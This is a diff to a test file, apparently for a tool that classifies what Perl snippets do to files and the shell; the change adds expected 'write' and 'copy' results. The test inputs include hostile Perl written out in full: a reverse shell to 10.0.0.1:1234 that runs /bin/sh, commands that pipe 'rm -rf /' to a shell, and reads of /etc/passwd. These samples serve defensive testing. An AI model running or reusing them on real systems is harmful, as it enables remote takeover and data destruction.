@@ -14,7 +14,11 @@ checkCases("perl", [
     "delete* /home/u",
   ],
   ['open(F, "/etc/passwd"); print <F>;', "read /etc/passwd"],
-  ["open(my $fh, '>', '/etc/x') or die; print $fh \"rm -rf /\"; close $fh;", "write /etc/x"],
+  [
+    "open(my $fh, '>', '/etc/x') or die; print $fh \"rm -rf /\"; close $fh;",
+    "write /etc/x",
+    "put /etc/x << rm -rf /",
+  ],
   ['open(P, "|sh"); print P "rm -rf /\\n";', "sh: sh << rm -rf /\n"],
   [
     'use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};',
@@ -86,11 +90,14 @@ checkCases("perl", [
     "read* /etc/passwd",
     "delete* /etc/passwd",
     "write /tmp/p",
+    "copy /etc/passwd /tmp/p",
     "read a",
     "write b",
+    "copy a b",
     "read* c",
     "delete* c",
     "write d",
+    "copy c d",
   ],
   [
     'my ($a, $b) = ("rm", "-rf /"); system("$a $b"); my $h = { run => sub { system(shift) } }; $h->{run}->("id");',
